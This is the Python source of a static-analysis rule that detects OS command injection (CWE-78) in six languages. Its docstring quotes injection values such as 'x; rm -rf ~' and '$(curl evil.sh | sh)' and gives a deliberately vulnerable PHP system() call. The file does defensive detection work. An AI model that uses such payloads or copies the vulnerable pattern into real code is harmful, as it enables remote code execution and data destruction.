r"""## What it does
Finds commands run through a shell with a command line built from values, in
Java, C#, PHP, Go, Ruby and Rust:

* Java: ``Runtime.getRuntime().exec(cmd)`` with a built string, and
  ``new ProcessBuilder("sh", "-c", cmd)``;
* C#: ``Process.Start("cmd.exe", "/c " + x)`` (or ``bash -c``,
  ``powershell -Command``), ``Process.Start(cmd)`` with a built string,
  ``new ProcessStartInfo("cmd.exe", ...)``;
* PHP: ``system``, ``exec``, ``shell_exec``, ``passthru``, ``popen``,
  ``proc_open`` and backticks given a built string or a request value;
* Go: ``exec.Command("sh", "-c", cmd)`` (and ``CommandContext``);
* Ruby: ``system``, ``exec``, ``spawn``, ``IO.popen``, ``Open3.capture2``/
  ``capture3``/``popen3`` with one interpolated string, and backticks or
  ``%x()`` with interpolation;
* Rust: ``Command::new("sh").arg("-c").arg(cmd)`` and
  ``Command::new("sh").args(["-c", &cmd])``, with ``cmd`` built by
  ``format!`` or ``+``.

A string is built when it joins a value that is not a constant by ``+``, PHP's
``.``, interpolation or a format call, directly or through a variable of the
example; escaped values (``escapeshellarg``, ``Shellwords.escape``) and
numbers are left alone.

## Why is this bad?
The shell parses the whole string: a value such as ``x; rm -rf ~`` or
``$(curl evil.sh | sh)`` runs commands of the attacker's choosing.

## Example
```php
<?php
system("convert " . $_GET["file"] . " thumb.png");
```

## Use instead
```php
<?php
$process = new Symfony\Component\Process\Process(["convert", $_GET["file"], "thumb.png"]);
$process->run();
```
Pass the program and its arguments as a list (``ProcessBuilder("convert",
file)``, ``exec.Command("convert", file)``, ``system("convert", file)`` in
Ruby, ``ProcessStartInfo.ArgumentList``): no shell parses them.

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- [OWASP OS Command Injection Defense Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html)
"""

from __future__ import annotations

from typing import Any, Iterator, Optional

from ...languages.code import Call, CodeView
from ...model import Hit
from ..registry import rule
from ._values import LANGUAGES, from_request, is_outside

SHELLS = frozenset({"sh", "bash", "/bin/sh", "/bin/bash", "zsh", "cmd", "cmd.exe", "powershell", "powershell.exe",
                    "pwsh"})
SHELL_FLAGS = frozenset({"-c", "/c", "/C", "-Command", "-command", "-lc"})
PHP_SHELL = frozenset({"system", "exec", "shell_exec", "passthru", "popen", "proc_open"})
RUBY_SHELL = frozenset({"system", "exec", "spawn", "popen", "capture2", "capture2e", "capture3", "popen2", "popen3"})


@rule(
    id="DSL001",
    symbol="shell-command-built",
    title="Shell command built from values (Java, C#, PHP, Go, Ruby, Rust)",
    severity="high",
    cwe=78,
    languages=LANGUAGES,
    equivalent="Semgrep/CodeQL command-injection queries",
    message="runs a shell command built from a value; pass the program and its arguments as a list",
    use_instead='new ProcessBuilder("convert", file, "thumb.png"); exec.Command("convert", file)',
    # No triggers: backticks (a subshell) cannot be one, and these languages' blocks are few.
)
def check(view: CodeView) -> Iterator[Hit]:
    for call in view.calls:
        command = _shell_command(view, call)
        if command is not None:
            yield from _judge(view, call.node, f"`{view.text_of(call.node, 40).split('(')[0]}`", command)
    for node in view.nodes_of("shell_command_expression", "subshell"):  # PHP's and Ruby's backticks
        built = view.built(node) if node.type == "subshell" else _php_backticks(view, node)
        if built is not None and any(is_outside(view, part) for part in built.dynamic):
            yield _hit(view, node, "backticks", built.how, built.dynamic)


def _shell_command(view: CodeView, call: Call) -> Optional[Any]:
    """The string a shell will parse, or ``None`` when the call runs no shell."""
    language, short, first = view.language, call.short, call.argument(0)
    if language == "rust":
        return _rust_shell_command(view, call)
    values = [view.string_value(argument) for argument in call.arguments]
    if language in ("java", "go", "csharp") and (short in ("ProcessBuilder", "Command", "CommandContext",
                                                           "Start", "ProcessStartInfo")):
        if short == "CommandContext":
            values, arguments = values[1:], call.arguments[1:]
        else:
            arguments = call.arguments
        if short in ("Start", "ProcessStartInfo") and language != "csharp" or \
                short in ("Command", "CommandContext") and language != "go":
            return None
        if values and values[0] in SHELLS:
            if len(values) >= 3 and values[1] in SHELL_FLAGS:
                return arguments[2]
            if len(values) == 2 and language == "csharp":
                return arguments[1]  # Process.Start("cmd.exe", "/c dir " + path)
        if short == "Start" and len(call.arguments) == 1 and call.name.endswith("Process.Start"):
            return first
        return None
    if language == "java" and short == "exec" and ("Runtime" in call.name or "runtime" in call.name.lower()):
        return first
    if language == "php" and short in PHP_SHELL and call.name == short:
        return first
    if language == "ruby" and short in RUBY_SHELL and len(call.arguments) == 1 and \
            call.name in (short, f"IO.{short}", f"Open3.{short}", f"Kernel.{short}", f"Process.{short}"):
        return first
    return None


def _rust_shell_command(view: CodeView, call: Call) -> Optional[Any]:
    """The third word of ``Command::new("sh").arg("-c").arg(cmd)`` (or ``.args(["-c", cmd])``), when
    this call gives it."""
    if call.short not in ("arg", "args"):
        return None
    chain: list[Call] = []
    node: Any = call.node
    while node is not None and node.type == "call_expression":
        found = view._call(node)
        if found is None:
            return None
        chain.append(found)
        function = node.child_by_field_name("function")
        node = function.child_by_field_name("value") if function is not None and \
            function.type == "field_expression" else None
    chain.reverse()
    if not chain or not chain[0].name.endswith("Command.new") or \
            view.string_value(chain[0].argument(0)) not in SHELLS:
        return None
    words: list[tuple[Any, Call]] = []
    for link in chain[1:]:
        if link.short == "arg":
            words.extend((argument, link) for argument in link.arguments[:1])
        elif link.short == "args" and link.arguments:
            items = link.arguments[0]
            while items.type == "reference_expression" and items.named_children:
                items = items.named_children[-1]
            words.extend((item, link) for item in items.named_children if items.type == "array_expression")
    if len(words) >= 2 and view.string_value(words[0][0]) in SHELL_FLAGS and words[1][1].node.id == call.node.id:
        return words[1][0]
    return None


def _judge(view: CodeView, node: Any, what: str, command: Any) -> Iterator[Hit]:
    built, via = view.built_through(command)
    if built is not None:
        dynamic = [part for part in built.dynamic if is_outside(view, part)]
        if dynamic:
            yield _hit(view, node, what, built.how + via, dynamic)
    elif view.language == "php" and from_request(view, command):
        yield _hit(view, node, what, "a request value", [command])


def _hit(view: CodeView, node: Any, what: str, how: str, dynamic: Any) -> Hit:
    return Hit(view.line(node), view.column(node),
               f"{what} runs a shell command built with {how} from `{view.text_of(dynamic[0], 40)}`; pass the program "
               "and its arguments as a list so no shell parses them")


def _php_backticks(view: CodeView, node: Any):
    from ...languages.code import Built

    dynamic = tuple(part for part in node.named_children if part.type in view.spec.interpolations)
    return Built(view.text_of(node), dynamic, "interpolation") if dynamic else None
